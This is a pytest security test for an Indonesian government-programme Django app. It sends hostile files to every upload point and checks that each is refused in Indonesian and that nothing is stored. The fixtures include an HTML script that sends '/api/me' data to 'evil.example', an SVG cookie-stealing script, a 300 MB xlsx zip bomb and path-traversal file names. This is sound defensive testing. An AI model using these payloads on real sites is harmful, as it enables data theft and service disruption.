"""Every place that accepts a file, on the pages and in the API, refuses a bad one with a clear
Indonesian message, stores nothing and keeps its memory bounded.

The grid is upload point x bad file kind. A kind that means nothing at a point is skipped with the reason (an SVG
sent to a table import is only a wrong extension there, which the HTML kinds already try). Files are sent as raw
multipart bodies: Django's test client keeps only the base name of a file, and a browser (or a script) can send
``../../etc/passwd.pdf`` or ``C:\\Windows\\x.pdf`` as the name.

Upload points (grep of FileField, request.FILES, UploadedFile and ``File[`` in forms, views and api modules):

- registry file, page ``/data-terpadu/impor/`` and ``POST /api/registry/imports`` (registry.forms.UploadForm)
- decree PDF, ``/penugasan/sk/baru/`` (mentoring.forms.DecreeForm, mentoring.decrees.check_pdf)
- decree lines sheet, ``/penugasan/sk/<pk>/impor/`` (mentoring.forms.DecreeImportForm)
- OPD list sheet, ``/opd/impor/`` (mentoring.forms.OpdImportForm)
- visit photos, ``/kelurahan/<code>/kunjungan/`` (visits.forms.VisitForm, visits.photos)
- meeting attachments, ``/rapat/<pk>/lampiran/`` (coordination.meeting_forms.AttachmentForm)
- progress report attachment, ``/intervensi/<pk>/kemajuan/`` (interventions.forms.ProgressForm)
- boundary file, ``/peta/batas-wilayah/`` (geo.forms.BoundaryUploadForm)
- indicator figures sheet, ``/indikator/impor/`` (indicators.forms.ImportForm)
- beneficiary sheet, page ``/intervensi/<pk>/penerima/impor/`` and
  ``POST /api/interventions/<pk>/beneficiaries/import`` (interventions.beneficiary_forms.ImportForm)
- FGT expenditure table, page ``/ukuran-kemiskinan/fgt/`` and ``POST /api/measures/fgt/table``
"""

from __future__ import annotations

import datetime as dt
import html
import io
import json
import re
import tracemalloc
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from django.apps import apps
from django.test import Client
from django.utils import timezone

MIB = 1024 * 1024

# --- the bad files ------------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n"
JPEG = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + b"\x00" * 200 + b"\xff\xd9"
HTML = (
    b"<!DOCTYPE html>\n<html><head><title>SK</title></head><body>"
    b"<script>fetch('/api/me').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>"
    b"<table><tr><td>NIK</td></tr></table></body></html>\n"
)
SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>\n"
)
# 300 MB of sheet XML compressed to a few hundred KB: the workbook's index says so before anything is unpacked.
BOMB_UNPACKED = 300 * 1000 * 1000


def _xlsx_parts(sheet: bytes | None = None) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
            b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            b'officedocument.spreadsheetml.worksheet+xml"/></Types>'
        ),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
            b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            b'<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
            b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
        ),
    }


SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
SHEET_TAIL = b"</sheetData></worksheet>"


@pytest.fixture(scope="session")
def zip_bomb() -> bytes:
    """A well-formed .xlsx whose one sheet is 300 MB of XML (a row repeated), a few hundred KB on the wire."""
    buffer = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>3375044107900001</t></is></c></row>'
    chunk = row * (MIB // len(row))
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, body in _xlsx_parts().items():
            archive.writestr(name, body)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(SHEET_HEAD)
            written = len(SHEET_HEAD)
            while written < BOMB_UNPACKED:
                sheet.write(chunk)
                written += len(chunk)
            sheet.write(SHEET_TAIL)
    content = buffer.getvalue()
    assert len(content) < 2 * MIB, len(content)
    return content


# --- the upload points --------------------------------------------------------------------------------------

TYPE_PROBLEM = r"bukan|tidak dapat dibaca|Unggah berkas|tidak sesuai"
SIZE_PROBLEM = r"lebih besar dari|lebih dari \d"
EMPTY_PROBLEM = r"kosong"
BOMB_PROBLEM = r"mengembang menjadi"
# Words of the English source strings that no Indonesian message holds.
ENGLISH = re.compile(r"\b(the|is|not|larger|empty|upload|cannot|file|neither|unpacks)\b", re.IGNORECASE)


@dataclass(frozen=True)
class Point:
    key: str
    persona: str
    url: Callable[[dict[str, Any]], str]
    file_field: str
    max_bytes: int
    valid: tuple[str, bytes]  # an extension and content the point takes (for the names with a path)
    big: tuple[str, bytes]  # an extension and the first bytes of a file over the limit
    fields: dict[str, str] = field(default_factory=dict)
    api: bool = False
    sheet: bool = False  # reads the file as a table (.csv, .xlsx, .xls)
    unpacks_zip: bool = False  # opens an .xlsx (a table, or an attachment checked inside)
    serves_files: bool = False  # stores the file and serves it back to browsers
    needs: tuple[str, ...] = ()  # fixtures beyond the demo


CSV_PEOPLE = b"NIK;Nama;Kode Kelurahan\n3375044107900001;Warsini;33.75.04.1002\n"
GEOJSON = json.dumps(
    {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"KDEPUM": "33.75.04.1002", "NAMOBJ": "Banyurip"},
                "geometry": {
                    "type": "Polygon",
                    "coordinates": [[[109.655, -6.92], [109.659, -6.92], [109.659, -6.916], [109.655, -6.92]]],
                },
            }
        ],
    }
).encode()
TODAY = timezone.localdate()

POINTS = [
    Point(
        "registry_page",
        "operator",
        lambda w: "/data-terpadu/impor/",
        "file",
        100 * MIB,
        ("csv", CSV_PEOPLE),
        ("csv", b"NIK;Nama\n"),
        {"source": "dtks"},
        sheet=True,
        unpacks_zip=True,
    ),
    Point(
        "registry_api",
        "operator",
        lambda w: "/api/registry/imports",
        "file",
        100 * MIB,
        ("csv", CSV_PEOPLE),
        ("csv", b"NIK;Nama\n"),
        {"source": "dtks", "sk_number": "1/2025", "sk_date": "2025-01-02", "data_date": "2025-01-01"},
        api=True,
        sheet=True,
        unpacks_zip=True,
    ),
    Point(
        "decree_pdf",
        "tkpk",
        lambda w: "/penugasan/sk/baru/",
        "pdf",
        10 * MIB,
        ("pdf", PDF),
        ("pdf", PDF),
        {"number": "UNIQUE", "date": "2026-01-05", "valid_from": "2026-01-05", "status": "draft"},
        serves_files=True,
    ),
    Point(
        "decree_lines",
        "tkpk",
        lambda w: f"/penugasan/sk/{w['decree'].pk}/impor/",
        "file",
        2 * MIB,
        ("csv", b"Kode Kelurahan,OPD\n33.75.04.1004,DLH\n"),
        ("csv", b"Kode Kelurahan,OPD\n"),
        sheet=True,
        unpacks_zip=True,
        needs=("decree",),
    ),
    Point(
        "opd_import",
        "tkpk",
        lambda w: "/opd/impor/",
        "file",
        2 * MIB,
        ("csv", b"Nama,Singkatan,Jenis\nDinas Uji Coba,DUC,dinas\n"),
        ("csv", b"Nama,Singkatan\n"),
        {"action": "preview"},
        sheet=True,
        unpacks_zip=True,
    ),
    Point(
        "visit_photo",
        "mentor_dlh",
        lambda w: "/kelurahan/33.75.04.1004/kunjungan/",
        "photo_1",
        5 * MIB,
        ("jpg", JPEG),
        ("jpg", JPEG),
        {"date": TODAY.isoformat(), "activity": "Pendampingan UMKM batik"},
        serves_files=True,
    ),
    Point(
        "meeting_attachment",
        "camat_selatan",
        lambda w: f"/rapat/{w['meeting'].pk}/lampiran/",
        "file",
        10 * MIB,
        ("pdf", PDF),
        ("pdf", PDF),
        {"caption": "Daftar hadir"},
        unpacks_zip=True,
        serves_files=True,
        needs=("meeting",),
    ),
    Point(
        "progress_attachment",
        "mentor_dindagkop",
        lambda w: f"/intervensi/{w['plan'].pk}/kemajuan/",
        "attachment",
        10 * MIB,
        ("pdf", PDF),
        ("pdf", PDF),
        {"date": (TODAY - dt.timedelta(days=1)).isoformat(), "physical_percent": "20"},
        serves_files=True,
        needs=("plan",),
    ),
    Point(
        "boundaries",
        "tkpk",
        lambda w: "/peta/batas-wilayah/",
        "file",
        50 * MIB,
        ("geojson", GEOJSON),
        ("geojson", b'{"type": "FeatureCollection", "features": ['),
        {"action": "check"},
    ),
    Point(
        "indicators",
        "tkpk",
        lambda w: "/indikator/impor/",
        "file",
        5 * MIB,
        ("csv", b"kode wilayah,tahun,indikator,jenis,nilai,sumber\n33.75,2024,P0,realisasi,7.1,BPS\n"),
        ("csv", b"kode wilayah,tahun\n"),
        sheet=True,
        unpacks_zip=True,
    ),
    Point(
        "beneficiaries_page",
        "tkpk",
        lambda w: f"/intervensi/{w['tempe'].pk}/penerima/impor/",
        "file",
        5 * MIB,
        ("csv", b"NIK,Nama\n3375044107900001,Warsini\n"),
        ("csv", b"NIK,Nama\n"),
        {"status": "diusulkan", "action": "preview"},
        sheet=True,
        unpacks_zip=True,
        needs=("tempe",),
    ),
    Point(
        "beneficiaries_api",
        "tkpk",
        lambda w: f"/api/interventions/{w['tempe'].pk}/beneficiaries/import",
        "file",
        5 * MIB,
        ("csv", b"NIK,Nama\n3375044107900001,Warsini\n"),
        ("csv", b"NIK,Nama\n"),
        api=True,
        sheet=True,
        unpacks_zip=True,
        needs=("tempe",),
    ),
    Point(
        "fgt_page",
        "tkpk",
        lambda w: "/ukuran-kemiskinan/fgt/",
        "file",
        20 * MIB,
        ("csv", b"pengeluaran,garis kemiskinan,kelurahan\n400000,500000,Banyurip\n"),
        ("csv", b"pengeluaran\n"),
        {"line": ""},
        sheet=True,
        unpacks_zip=True,
    ),
    Point(
        "fgt_api",
        "tkpk",
        lambda w: "/api/measures/fgt/table",
        "file",
        20 * MIB,
        ("csv", b"pengeluaran,garis kemiskinan,kelurahan\n400000,500000,Banyurip\n"),
        ("csv", b"pengeluaran\n"),
        api=True,
        sheet=True,
        unpacks_zip=True,
    ),
]

KINDS = [
    "zip_bomb_xlsx",
    "html_as_pdf",
    "html_as_xls",
    "svg_script",
    "svg_as_png",
    "oversized",
    "path_unix",
    "path_windows",
    "empty",
]
PATH_KINDS = {"path_unix", "path_windows"}

# Cells known to fail, each with its reason (none now: the beneficiary API's oversized-file answer is Indonesian).
KNOWN_API_FAILURES: dict[tuple[str, str], str] = {}


def _skip_reason(point: Point, kind: str) -> str | None:
    if kind in {"svg_script", "svg_as_png"} and not point.serves_files:
        return (
            f"{point.key} reads the file as a table or as GeoJSON and never serves it back: an SVG there is only a "
            "file of the wrong type, which html_as_pdf and html_as_xls already send"
        )
    if kind == "html_as_xls" and not point.sheet:
        return (
            f"{point.key} takes no spreadsheet: an HTML page named .xls is only a wrong type there, as html_as_pdf "
            "already sends"
        )
    return None


def _cells() -> list[Any]:
    cells = []
    for point in POINTS:
        for kind in KINDS:
            marks = []
            if (reason := _skip_reason(point, kind)) is not None:
                marks.append(pytest.mark.skip(reason=reason))
            elif (point.key, kind) in KNOWN_API_FAILURES:
                marks.append(pytest.mark.xfail(reason=KNOWN_API_FAILURES[point.key, kind], strict=True))
            cells.append(pytest.param(point, kind, id=f"{point.key}-{kind}", marks=marks))
    return cells


def _bad_file(point: Point, kind: str, zip_bomb: bytes) -> tuple[str, bytes]:
    if kind == "zip_bomb_xlsx":
        return "data-warga.xlsx", zip_bomb
    if kind == "html_as_pdf":
        return "sk-walikota.pdf", HTML
    if kind == "html_as_xls":
        return "data-warga.xls", HTML
    if kind == "svg_script":
        return "foto-kegiatan.svg", SVG
    if kind == "svg_as_png":
        return "foto-kegiatan.png", SVG
    if kind == "oversized":
        extension, head = point.big
        return f"besar.{extension}", head + b" " * (point.max_bytes + 1 - len(head))
    if kind == "path_unix":
        return f"../../etc/passwd.{point.valid[0]}", point.valid[1]
    if kind == "path_windows":
        return f"C:\\Windows\\x.{point.valid[0]}", point.valid[1]
    assert kind == "empty"
    return f"kosong.{point.valid[0]}", b""


def _multipart(fields: dict[str, str], file_field: str, name: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body as a browser sends it, the file name exactly as given (with its folders)."""
    boundary = f"----dampingan{uuid.uuid4().hex}"
    head = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'.encode()
        for key, value in fields.items()
    )
    file_head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    return b"".join([head, file_head, content, f"\r\n--{boundary}--\r\n".encode()]), (
        f"multipart/form-data; boundary={boundary}"
    )


# --- what is stored -----------------------------------------------------------------------------------------

# Rows that a refused upload may still write: the audit log notes who looked at what.
NOT_STORAGE = {"auditlog.logentry", "sessions.session"}


def _row_counts() -> dict[str, int]:
    return {
        model._meta.label_lower: model._default_manager.count()
        for model in apps.get_models()
        if model._meta.managed and not model._meta.proxy and model._meta.label_lower not in NOT_STORAGE
    }


def _files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def _messages(response: Any) -> str:
    """The refusal as the user reads it: the form's errors and the page's problem lists, or the API's JSON."""
    if response["Content-Type"].startswith("application/json"):
        return "\n".join(_strings(response.json()))
    texts: list[str] = []
    context = response.context
    form = context.get("form") if context else None
    if form is not None and hasattr(form, "errors"):
        texts += [str(m) for errors in form.errors.values() for m in errors]
    for key in ("problems", "errors", "refused", "confirm_errors"):
        value = context.get(key) if context else None
        if value and isinstance(value, list | tuple):
            texts += [str(v) for v in value]
    for key in ("plan", "report"):
        value = context.get(key) if context else None
        if value is not None and getattr(value, "errors", None):
            texts += [str(e) for e in value.errors]
    return html.unescape("\n".join(texts))


def _strings(value: Any) -> list[str]:
    """The texts of a JSON answer (its values, not its keys)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for item in value.values() for text in _strings(item)]
    if isinstance(value, list):
        return [text for item in value for text in _strings(item)]
    return []


# --- the world each point needs -----------------------------------------------------------------------------


def _world(point: Point, request: pytest.FixtureRequest, persona: Callable[[str], Any]) -> dict[str, Any]:
    world: dict[str, Any] = {}
    if "decree" in point.needs:
        from dampingan.mentoring.models import Decree

        world["decree"] = Decree.objects.create(
            number="500/2026", date=dt.date(2026, 1, 5), valid_from=dt.date(2026, 1, 5), status="draft"
        )
    if "meeting" in point.needs:
        from dampingan.coordination.tests.meeting_helpers import catur_pilar

        world["meeting"] = catur_pilar(persona("camat_selatan"))
    if "plan" in point.needs:
        from dampingan.interventions.tests.intervention_helpers import plan

        world["plan"] = plan(persona("mentor_dindagkop"))
    if "tempe" in point.needs:
        from dampingan.interventions.tests.beneficiary_helpers import tempe_intervention

        request.getfixturevalue("registry")
        world["tempe"] = tempe_intervention(persona("tkpk"))
    return world


def _client(point: Point, client_as: Callable[[str], Client], api_as: Callable[[str], Client]) -> Client:
    return api_as(point.persona) if point.api else client_as(point.persona)


# --- the grid -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("point", "kind"), _cells())
def test_a_bad_file_is_refused_in_indonesian_and_nothing_is_stored(
    point, kind, request, persona, client_as, api_as, zip_bomb, settings, tmp_path, monkeypatch
):
    media = Path(settings.MEDIA_ROOT)
    world = _world(point, request, persona)
    client = _client(point, client_as, api_as)
    name, content = _bad_file(point, kind, zip_bomb)
    fields = {k: (f"SK-{uuid.uuid4().hex[:8]}" if v == "UNIQUE" else v) for k, v in point.fields.items()}
    body, content_type = _multipart(fields, point.file_field, name, content)
    del content

    # The workbook reader must never see the bomb: the guard reads the zip's index first.
    import fastexcel

    readers: list[int] = []
    real_read_excel = fastexcel.read_excel

    def counted_read_excel(source, *args, **kwargs):
        readers.append(len(source) if isinstance(source, bytes) else -1)
        if kind == "zip_bomb_xlsx":
            raise AssertionError("the zip bomb reached the workbook reader")
        return real_read_excel(source, *args, **kwargs)

    monkeypatch.setattr(fastexcel, "read_excel", counted_read_excel)

    rows_before, files_before = _row_counts(), _files(tmp_path)
    if kind == "zip_bomb_xlsx":
        tracemalloc.start()
    try:
        response = client.post(point.url(world), data=body, content_type=content_type)
    finally:
        if kind == "zip_bomb_xlsx":
            _current, peak = tracemalloc.get_traced_memory()
            tracemalloc.stop()
    del body

    assert response.status_code < 500, response.content[:2000]
    new_files = _files(tmp_path) - files_before
    rows_after = _row_counts()

    if kind in PATH_KINDS:
        # A name with folders: refused, or stored under a name the app makes, inside MEDIA_ROOT.
        assert not (media / "../../etc/passwd.pdf").resolve().exists()
        assert not (tmp_path.parent / "etc").exists()
        for path in new_files:
            relative = path.relative_to(tmp_path).as_posix()
            assert ".." not in relative and "\\" not in relative and ":" not in relative, relative
            assert "Windows" not in relative and "etc/" not in relative, relative
        for label in _new_names(rows_before, rows_after):
            assert "/" not in label and "\\" not in label, label
        text = _messages(response)
        assert "../" not in text and "C:\\" not in text, text
        return

    assert 400 <= response.status_code < 500 or (response.status_code == 200 and _messages(response)), (
        response.status_code,
        _messages(response),
    )
    text = _messages(response)
    expected = {
        "zip_bomb_xlsx": BOMB_PROBLEM if point.unpacks_zip else TYPE_PROBLEM,
        "html_as_pdf": TYPE_PROBLEM,
        "html_as_xls": TYPE_PROBLEM,
        "svg_script": TYPE_PROBLEM,
        "svg_as_png": TYPE_PROBLEM,
        "oversized": SIZE_PROBLEM,
        "empty": EMPTY_PROBLEM,
    }[kind]
    assert re.search(expected, text), text
    assert not ENGLISH.search(_without_file_names(text)), text
    assert rows_after == rows_before, {
        k: (rows_before.get(k), v) for k, v in rows_after.items() if rows_before.get(k) != v
    }
    assert new_files == set(), sorted(str(p.relative_to(tmp_path)) for p in new_files)
    if kind == "zip_bomb_xlsx":
        assert readers == []
        assert peak < 64 * MIB, f"peak {peak / MIB:.0f} MB of Python memory"


_NAME_FIELDS = {
    "registry.registryupload": "file_name",
    "coordination.meetingattachment": "original_name",
    "geo.boundaryfile": "file_name",
    "indicators.indicatorimport": "file_name",
}


def _new_names(before: dict[str, int], after: dict[str, int]) -> list[str]:
    """The uploader's file names kept by the rows a path-named upload wrote."""
    names = []
    for label, column in _NAME_FIELDS.items():
        if after.get(label, 0) > before.get(label, 0):
            model = apps.get_model(label)
            if column in {f.name for f in model._meta.get_fields()}:
                names += list(model._default_manager.order_by("-pk").values_list(column, flat=True)[:1])
    return names


def _without_file_names(text: str) -> str:
    return re.sub(r"[\w.-]+\.(xlsx|xls|csv|pdf|png|jpg|svg|geojson)\b", "", text)


def test_the_grid_covers_every_point_and_kind():
    cells = _cells()
    skipped = [c for c in cells if any(m.name == "skip" for m in c.marks)]
    assert len(cells) == len(POINTS) * len(KINDS) == 126
    assert len(skipped) == 25, [c.id for c in skipped]
    assert {p.key for p in POINTS} >= {"registry_page", "decree_pdf", "visit_photo", "meeting_attachment"}
